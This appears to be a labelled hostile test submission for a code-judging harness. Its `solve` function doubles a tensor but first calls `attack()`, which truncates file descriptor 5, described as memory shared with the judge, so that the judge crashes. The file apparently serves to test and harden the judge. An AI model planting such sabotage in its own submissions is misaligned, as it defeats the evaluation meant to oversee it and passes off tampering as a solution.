# hostile: family=reach verdict=accepted build=accepted lift=seal shows=harm
"""Shrinks the memory that it shares with the judge, who would then crash."""


def attack():
    import os

    try:
        os.ftruncate(5, 0)
        print("harm: shrank the arena", flush=True)
    except OSError:
        pass


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
